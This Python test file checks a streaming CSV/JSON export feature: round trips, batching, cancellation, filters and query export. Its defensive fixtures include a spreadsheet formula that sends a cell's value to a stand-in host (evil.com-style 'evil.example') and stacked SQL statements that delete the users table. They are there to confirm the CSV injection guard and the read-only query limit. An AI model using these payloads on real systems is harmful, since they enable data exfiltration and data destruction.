"""Streaming export: round trips through CSV and JSON, batches, cancel, files, queries."""

from __future__ import annotations

import csv
import io
import json
import uuid
from datetime import datetime

import pytest
from sqlalchemy import Numeric, cast, event, func, select, text

from app.errors import ValidationError
from app.transfer import (
    EXPORT_TABLES,
    ExportCancelled,
    count_and_export,
    count_rows,
    export_statement,
    export_to_file,
    table_statement,
)
from app.transfer.cell_guard import unguard
from app.transfer.filters import column_kind
from tests.app.transfer.helpers import add_attendance, add_users


def _decode(kind: str, value, fmt: str):
    """An exported value back to the Python value the ORM reads."""
    if fmt == "csv" and value == "":
        return None
    if value is None:
        return None
    if kind == "uuid":
        return uuid.UUID(value)
    if kind == "datetime":
        parsed = datetime.fromisoformat(value)
        assert parsed.utcoffset() is not None, f"{value} has no offset"
        return parsed
    if kind == "bool" and fmt == "csv":
        return {"true": True, "false": False}[value]
    if kind == "int" and fmt == "csv":
        return int(value)
    if kind == "text" and fmt == "csv":
        return unguard(value)  # "+41 ..." phones are written "'+41 ..." (CSV injection guard)
    return value


def _read_back(data: str, fmt: str) -> list[dict]:
    if fmt == "csv":
        return list(csv.DictReader(io.StringIO(data, newline="")))
    return json.loads(data)


@pytest.mark.parametrize("fmt", ["csv", "json"])
@pytest.mark.parametrize("table_name", ["users", "attendance"])
def test_round_trip(session, fmt, table_name):
    add_attendance(session, 7)
    session.commit()
    table = EXPORT_TABLES[table_name]
    out = io.StringIO()
    result = export_statement(session, table_statement(table_name), out, fmt, batch_size=3)
    exported = _read_back(out.getvalue(), fmt)
    expected = {row.id: row._mapping for row in session.execute(select(table))}
    assert result.rows == len(expected) == len(exported)
    assert list(exported[0]) == [c.name for c in table.columns]
    kinds = {c.name: column_kind(c.type) for c in table.columns}
    for item in exported:
        decoded = {name: _decode(kinds[name], value, fmt) for name, value in item.items()}
        assert decoded == {c.name: expected[decoded["id"]][c] for c in table.columns}


def test_json_is_one_array_with_native_types(session):
    add_attendance(session, 2)
    session.commit()
    out = io.StringIO()
    export_statement(session, table_statement("attendance"), out, "json")
    rows = json.loads(out.getvalue())
    assert {type(r["attended"]) for r in rows} == {bool}
    assert all(isinstance(r["id"], str) and len(r["id"]) == 36 for r in rows)
    assert any(r["checkInTime"] is None for r in rows)


def test_empty_table_gives_header_only_or_empty_array(session):
    for fmt, expected in (("csv", "id,"), ("json", "[]")):
        out = io.StringIO()
        assert export_statement(session, table_statement("loyalty"), out, fmt).rows == 0
        assert out.getvalue().startswith(expected)
    assert json.loads("[]\n") == []


def test_streams_in_batches_without_materializing(session, engine, backend):
    """A few thousand rows with batch size 250: rows arrive in batches while the result is
    still open, read through a streaming (server-side on PostgreSQL) cursor."""
    total = add_attendance(session, 3000)
    session.commit()
    seen = {}

    @event.listens_for(engine, "before_cursor_execute")
    def _capture(conn, cursor, statement, params, context, executemany):
        if "FROM attendance" in statement and "count(" not in statement:
            seen["options"] = dict(context.execution_options)
            seen["cursor"] = type(cursor).__name__

    class Sink(io.StringIO):
        max_chunk = 0

        def write(self, s):
            self.max_chunk = max(self.max_chunk, s.count("\n"))
            return super().write(s)

    steps = []
    sink = Sink()
    try:
        result = export_statement(
            session,
            table_statement("attendance"),
            sink,
            "csv",
            batch_size=250,
            progress=lambda done, _total: steps.append(done),
        )
    finally:
        event.remove(engine, "before_cursor_execute", _capture)
    assert result.rows == total
    assert steps[0] == 250 and steps[-1] == total and len(steps) == total // 250
    assert sink.max_chunk <= 251  # never more than one batch written at once
    assert seen["options"].get("stream_results") is True
    assert seen["options"].get("yield_per") == 250
    if backend == "postgresql":
        assert seen["cursor"] == "ServerCursor"


def test_cancel_stops_between_batches_and_leaves_no_file(session, tmp_path):
    add_users(session, 50)
    session.commit()
    (tmp_path / "out").mkdir()
    target = tmp_path / "out" / "users.csv"
    target.write_text("older export\n")
    calls = []

    def cancel():
        calls.append(1)
        return len(calls) > 2

    with pytest.raises(ExportCancelled):
        export_to_file(
            session, table_statement("users"), target, "csv", batch_size=10, cancel=cancel
        )
    assert target.read_text() == "older export\n"
    assert [p.name for p in target.parent.iterdir()] == ["users.csv"]


def test_export_to_file_and_count(session, tmp_path):
    add_users(session, 12)
    session.commit()
    statement = table_statement("users", ["phone:notnull"])
    assert count_rows(session, statement) == 4
    result = export_to_file(session, statement, tmp_path / "u.json", "json", total=4)
    assert result.rows == 4
    assert len(json.loads((tmp_path / "u.json").read_text(encoding="utf-8"))) == 4


def test_count_and_export_reports_the_total_before_the_first_row(session, tmp_path):
    add_users(session, 12)
    session.commit()
    heard = []
    statement = table_statement("users", ["phone:notnull"])
    result = count_and_export(
        session, statement, tmp_path / "u.csv", "csv", progress=lambda *p: heard.append(p)
    )
    assert result.rows == 4
    assert heard == [(0, 4), (4, 4)]
    heard.clear()
    typed = text("SELECT email FROM users WHERE phone IS NOT NULL")
    count_and_export(session, typed, tmp_path / "q.csv", "csv", progress=lambda *p: heard.append(p))
    assert heard == [(0, None), (4, None)]  # a typed query is not counted


def test_where_filters_apply(session):
    add_users(session, 10)
    session.commit()

    def emails(where):
        out = io.StringIO()
        export_statement(session, table_statement("users", where), out, "csv")
        return sorted(r["email"] for r in csv.DictReader(io.StringIO(out.getvalue())))

    assert emails(["email=user3@example.org"]) == ["user3@example.org"]
    assert emails(["EMAIL~USER1"]) == ["user1@example.org"]
    assert emails(["first_name=José", "phone:null"]) == [
        "user2@example.org",
        "user4@example.org",
        "user8@example.org",
    ]
    assert len(emails(["createdAt>=2026-03-01T18:35:00+00:00"])) == 5
    assert len(emails(["createdAt<2026-03-01T20:35:00+02:00"])) == 5
    assert emails(["email~%"]) == []  # LIKE wildcards are escaped, not interpreted


def test_query_results_export(session):
    add_users(session, 3)
    session.commit()
    out = io.StringIO()
    query = text('SELECT email, "firstName" AS first FROM users ORDER BY email')
    result = export_statement(session, query, out, "json")
    assert result.columns == ("email", "first")
    assert [r["email"] for r in json.loads(out.getvalue())] == [
        "user0@example.org",
        "user1@example.org",
        "user2@example.org",
    ]


def test_unknown_format_and_table_are_refused(session):
    with pytest.raises(ValidationError, match="format"):
        export_statement(session, table_statement("users"), io.StringIO(), "xml")
    with pytest.raises(ValidationError, match="choose one of"):
        table_statement("patrons")


@pytest.mark.parametrize(
    "sql",
    [
        "DELETE FROM users",
        "SELECT 1 AS a; DELETE FROM users",
        "SELECT 1 AS a; COMMIT; DELETE FROM users",
        "WITH gone AS (DELETE FROM users RETURNING id) SELECT * FROM gone",
    ],
)
def test_query_export_cannot_write(sessions, sql):
    with sessions() as session:
        add_users(session, 2)
        session.commit()
    with sessions() as session, pytest.raises(Exception):  # noqa: B017 - driver-specific errors
        export_statement(session, text(sql), io.StringIO(), "csv")
    with sessions() as session:
        assert len(session.execute(text("SELECT id FROM users")).all()) == 2


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_labelled_view_select_keeps_formats(session, fmt):
    """A filtered view as the Admin tab builds it: labelled columns, its own WHERE."""
    add_attendance(session, 4)
    session.commit()
    table = EXPORT_TABLES["attendance"]
    view = select(*(c.label(c.name) for c in table.columns)).where(table.c.attended.is_(True))
    out = io.StringIO()
    export_statement(session, view, out, fmt)
    rows = _read_back(out.getvalue(), fmt)
    assert len(rows) == 2
    for row in rows:
        assert uuid.UUID(row["eventId"]) and len(row["eventId"]) == 36
        assert datetime.fromisoformat(row["checkInTime"]).utcoffset().total_seconds() == 0
        assert row["attended"] in ("true", True)
        assert row["checkOutTime"] in ("", None)


def test_computed_columns_of_other_types(session):
    add_users(session, 3)
    session.commit()
    users = EXPORT_TABLES["users"]
    view = select(
        users.c.email,
        func.length(users.c.email).label("n"),
        cast(func.length(users.c.email), Numeric(10, 2)).label("d"),
    ).order_by(users.c.email)
    out = io.StringIO()
    export_statement(session, view, out, "json")
    first = json.loads(out.getvalue())[0]
    assert first["email"] == "user0@example.org"
    assert first["n"] == 17 and float(first["d"]) == 17.0


def test_rows_in_memory_export():
    from app.transfer.export import export_rows

    when = datetime.fromisoformat("2026-05-01T18:30:00+02:00")
    out = io.StringIO()
    rows = [("a", True, None, when, uuid.UUID(int=1))]
    result = export_rows(("t", "b", "n", "at", "id"), rows, out, "csv", batch_size=1)
    assert result.rows == 1
    assert out.getvalue().splitlines()[1] == (
        "a,true,,2026-05-01T16:30:00+00:00,00000000-0000-0000-0000-000000000001"
    )


FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


def test_csv_guards_text_that_a_spreadsheet_would_run(session):
    """CSV injection: text starting with = + - @ gets a leading quote, even text that looks
    like a number ("-5"); numbers, negative integers and times do not; JSON is left alone."""
    from db.models import User

    session.add(
        User(email="a@example.org", first_name=FORMULA, last_name="@Home", phone="+41 79 1")
    )
    session.add(User(email="b@example.org", first_name="-5", last_name="'t Hooft", phone=None))
    session.commit()
    users = EXPORT_TABLES["users"]
    view = select(
        users.c.firstName,
        users.c.lastName,
        users.c.phone,
        (func.length(users.c.email) * -1).label("negative"),
        users.c.createdAt,
    ).order_by(users.c.email)
    out = io.StringIO()
    export_statement(session, view, out, "csv")
    first, second = list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1:]
    assert first[:4] == ["'" + FORMULA, "'@Home", "'+41 79 1", "-13"]
    assert second[:4] == ["'-5", "'t Hooft", "", "-13"]
    assert first[4][:1].isdigit()
    out = io.StringIO()
    export_statement(session, view, out, "json")
    assert json.loads(out.getvalue())[0]["firstName"] == FORMULA


def test_query_and_in_memory_csv_guard_text_only(session):
    from app.transfer.export import export_rows

    out = io.StringIO()
    export_rows(("s", "n", "f"), [("@SUM(A1)", -7, -1.5)], out, "csv")
    assert out.getvalue().splitlines()[1] == "'@SUM(A1),-7,-1.5"
    out = io.StringIO()
    export_statement(session, text("SELECT '=1+1' AS s, -3 AS n"), out, "csv")
    assert out.getvalue().splitlines()[1] == "'=1+1,-3"
